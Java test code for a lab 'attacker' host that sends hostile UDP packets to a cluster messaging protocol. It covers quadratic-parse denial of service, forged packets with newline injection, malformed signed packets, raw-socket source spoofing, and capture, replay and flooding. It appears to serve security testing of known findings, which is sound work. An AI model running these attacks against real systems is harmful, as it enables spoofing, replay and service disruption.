package io.tandem.security;

import com.sun.jna.LastErrorException;
import com.sun.jna.Library;
import com.sun.jna.Native;
import com.sun.jna.NativeLong;
import io.tandem.config.AuthKey;
import io.tandem.config.AuthMethod;
import io.tandem.wire.Field;
import io.tandem.wire.Message;
import io.tandem.wire.WireCodec;
import io.tandem.wire.WireFormat;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.StandardProtocolFamily;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.locks.LockSupport;

/**
 * A hostile host for the lab (test code, run inside an attacker namespace with {@code
 * lab.startJava}): sends the packets of the "hostile packets" findings to a lab address. Every
 * mode prints {@code sent N} when it is done; it never sends anywhere but the address it is given.
 *
 * <pre>
 *   quadratic DEST PORT COUNT [GAP_MS]     64 KB classic packets of 21,834 lines "a=" (the quadratic parse), GAP_MS apart
 *   forged DEST PORT COUNT SRC             wrong-key packets whose src field is SRC (\n written as %0a)
 *   signed DEST PORT COUNT KEY SRC KIND    packets signed with the md5 KEY as node SRC: KIND absurd (gen, seq, dt
 *                                          all ffffffffffffff) or badseq (seq "zz")
 *   spoof DEST PORT COUNT [PPS]            wrong-key packets from random source addresses in 198.18.0.0/15
 *                                          (RFC 2544's benchmark range), through a raw socket, at most PPS a second
 *   capture PORT FROM COUNT FILE           keeps COUNT packets that FROM sends to PORT (broadcast) in FILE
 *   replay DEST PORT FILE SECONDS          sends the packets of FILE in a loop for SECONDS, about 1 per ms
 *   flood-replay DEST PORT FILE COUNT      sends the first packet of FILE COUNT times, as fast as it can
 * </pre>
 */
public final class Attacker {
    private Attacker() {
    }

    public static void main(String[] args) throws Exception {
        String mode = args[0];
        long sent;
        switch (mode) {
            case "quadratic" -> {
                long gap = args.length > 4 ? Long.parseLong(args[4]) : 0;
                sent = udp(args[1], Integer.parseInt(args[2]), Integer.parseInt(args[3]), i -> {
                    if (i > 0 && gap > 0) {
                        LockSupport.parkNanos(gap * 1_000_000);
                    }
                    return quadratic();
                });
            }
            case "forged" -> {
                String src = args[4].replace("%0a", "\n");
                sent = udp(args[1], Integer.parseInt(args[2]), Integer.parseInt(args[3]), i -> forged(src));
            }
            case "signed" -> {
                AuthKey key = new AuthKey(1, AuthMethod.MD5, args[4]);
                String src = args[5];
                String kind = args[6];
                sent = udp(args[1], Integer.parseInt(args[2]), Integer.parseInt(args[3]), i -> signed(key, src, kind, i));
            }
            case "spoof" -> sent = spoof(args[1], Integer.parseInt(args[2]), Integer.parseInt(args[3]),
                    args.length > 4 ? Integer.parseInt(args[4]) : Integer.MAX_VALUE);
            case "capture" -> sent = capture(Integer.parseInt(args[1]), InetAddress.getByName(args[2]), Integer.parseInt(args[3]),
                    Path.of(args[4]));
            case "replay" -> sent = replay(args[1], Integer.parseInt(args[2]), load(Path.of(args[3])), Long.parseLong(args[4]) * 1000);
            case "flood-replay" -> {
                byte[] one = load(Path.of(args[3])).get(0);
                sent = udp(args[1], Integer.parseInt(args[2]), Integer.parseInt(args[4]), i -> one);
            }
            default -> throw new IllegalArgumentException("unknown mode " + mode);
        }
        System.out.println("sent " + sent);
        System.out.flush();
    }

    interface PacketMaker {
        byte[] make(int i);
    }

    static byte[] quadratic() {
        return (">>>\n" + "a=\n".repeat(21_834)).getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] forged(String src) {
        Message m = Message.ofStrings(Message.TYPE, "status", Message.STATUS, "active", Message.SRC, src, Message.SEQ, "1", Message.GEN, "1");
        return WireCodec.encodeSigned(m, new AuthKey(1, AuthMethod.MD5, "not-the-cluster-key"), WireFormat.NETSTRING_WITH_AUTH_FIELD);
    }

    static byte[] signed(AuthKey key, String src, String kind, int i) {
        String big = "ffffffffffffff";
        Message m = switch (kind) {
            case "absurd" -> Message.ofStrings(Message.TYPE, "status", Message.STATUS, "active", Message.DEADTIME, big, Message.PROTOCOL, "1",
                    Message.SRC, src).append(Field.binary(Message.SRCUUID, new byte[16])).append(Message.SEQ, big).append(Message.GEN, big)
                    .append(Message.TS, "1");
            case "badseq" -> Message.ofStrings(Message.TYPE, "status", Message.STATUS, "active", Message.SRC, src, Message.SEQ, "zz",
                    Message.GEN, "1");
            default -> throw new IllegalArgumentException("kind " + kind);
        };
        return WireCodec.encodeSigned(m, key, WireFormat.NETSTRING_WITH_AUTH_FIELD);
    }

    private static long udp(String dest, int port, int count, PacketMaker maker) throws IOException {
        try (DatagramChannel ch = DatagramChannel.open(StandardProtocolFamily.INET)) {
            ch.setOption(StandardSocketOptions.SO_BROADCAST, true);
            InetSocketAddress to = new InetSocketAddress(InetAddress.getByName(dest), port);
            long sent = 0;
            for (int i = 0; i < count; i++) {
                ch.send(ByteBuffer.wrap(maker.make(i)), to);
                sent++;
            }
            return sent;
        }
    }

    // ------------------------------------------------------------------ spoofed sources (raw IPv4)

    interface Raw extends Library {
        Raw C = Native.load("c", Raw.class);

        int socket(int domain, int type, int protocol) throws LastErrorException;

        int setsockopt(int fd, int level, int name, byte[] value, int length) throws LastErrorException;

        NativeLong sendto(int fd, byte[] buffer, NativeLong length, int flags, byte[] address, int addressLength) throws LastErrorException;

        int close(int fd) throws LastErrorException;
    }

    private static long spoof(String dest, int port, int count, int perSecond) throws IOException {
        byte[] to = InetAddress.getByName(dest).getAddress();
        byte[] payload = forged("nodex");
        int fd = Raw.C.socket(2, 3, 255); // AF_INET, SOCK_RAW, IPPROTO_RAW (the IP header is ours)
        try {
            Raw.C.setsockopt(fd, 1, 6, new byte[] {1, 0, 0, 0}, 4); // SO_BROADCAST
            byte[] sockaddr = new byte[16];
            sockaddr[0] = 2; // AF_INET, little-endian sa_family
            System.arraycopy(to, 0, sockaddr, 4, 4);
            Random random = new Random(42);
            byte[] packet = new byte[20 + 8 + payload.length];
            long sent = 0;
            long start = System.nanoTime();
            for (int i = 0; i < count; i++) {
                if (i % 100 == 0 && perSecond != Integer.MAX_VALUE) {
                    long due = start + i * 1_000_000_000L / perSecond;
                    while (System.nanoTime() < due) {
                        LockSupport.parkNanos(due - System.nanoTime());
                    }
                }
                int host = random.nextInt(1 << 17); // 198.18.0.0/15
                byte[] from = {(byte) 198, (byte) (18 + (host >>> 16)), (byte) (host >>> 8), (byte) host};
                ipUdp(packet, from, to, 40_000 + (i & 0x3fff), port, payload);
                try {
                    Raw.C.sendto(fd, packet, new NativeLong(packet.length), 0, sockaddr, sockaddr.length);
                    sent++;
                } catch (LastErrorException e) {
                    if (e.getErrorCode() != 105 && e.getErrorCode() != 11) { // ENOBUFS, EAGAIN: the queue is full, go on
                        throw new IOException("sendto: errno " + e.getErrorCode(), e);
                    }
                }
            }
            return sent;
        } finally {
            Raw.C.close(fd);
        }
    }

    /** IPv4 (20 bytes; the kernel fills in the checksum) + UDP (checksum 0: none) + payload. */
    private static void ipUdp(byte[] p, byte[] from, byte[] to, int sport, int dport, byte[] payload) {
        ByteBuffer b = ByteBuffer.wrap(p);
        b.put((byte) 0x45).put((byte) 0).putShort((short) p.length).putShort((short) 0).putShort((short) 0x4000)
                .put((byte) 64).put((byte) 17).putShort((short) 0).put(from).put(to);
        b.putShort((short) sport).putShort((short) dport).putShort((short) (8 + payload.length)).putShort((short) 0);
        b.put(payload);
    }

    // ------------------------------------------------------------------ capture and replay

    private static long capture(int port, InetAddress from, int count, Path file) throws IOException {
        List<byte[]> kept = new ArrayList<>();
        try (DatagramChannel ch = DatagramChannel.open(StandardProtocolFamily.INET)) {
            ch.setOption(StandardSocketOptions.SO_REUSEADDR, true);
            ch.bind(new InetSocketAddress(port));
            ByteBuffer buf = ByteBuffer.allocate(65_536);
            while (kept.size() < count) {
                buf.clear();
                InetSocketAddress a = (InetSocketAddress) ch.receive(buf);
                if (a.getAddress().equals(from)) {
                    buf.flip();
                    byte[] p = new byte[buf.remaining()];
                    buf.get(p);
                    kept.add(p);
                }
            }
        }
        try (DataOutputStream out = new DataOutputStream(Files.newOutputStream(file))) {
            for (byte[] p : kept) {
                out.writeInt(p.length);
                out.write(p);
            }
        }
        return kept.size();
    }

    static List<byte[]> load(Path file) {
        List<byte[]> packets = new ArrayList<>();
        try (DataInputStream in = new DataInputStream(Files.newInputStream(file))) {
            while (in.available() > 0) {
                byte[] p = new byte[in.readInt()];
                in.readFully(p);
                packets.add(p);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packets;
    }

    private static long replay(String dest, int port, List<byte[]> packets, long millis) throws IOException {
        long end = System.nanoTime() + millis * 1_000_000;
        long sent = 0;
        try (DatagramChannel ch = DatagramChannel.open(StandardProtocolFamily.INET)) {
            ch.setOption(StandardSocketOptions.SO_BROADCAST, true);
            InetSocketAddress to = new InetSocketAddress(InetAddress.getByName(dest), port);
            while (System.nanoTime() < end) {
                for (byte[] p : packets) {
                    ch.send(ByteBuffer.wrap(p), to);
                    sent++;
                    LockSupport.parkNanos(1_000_000);
                }
            }
        }
        return sent;
    }
}
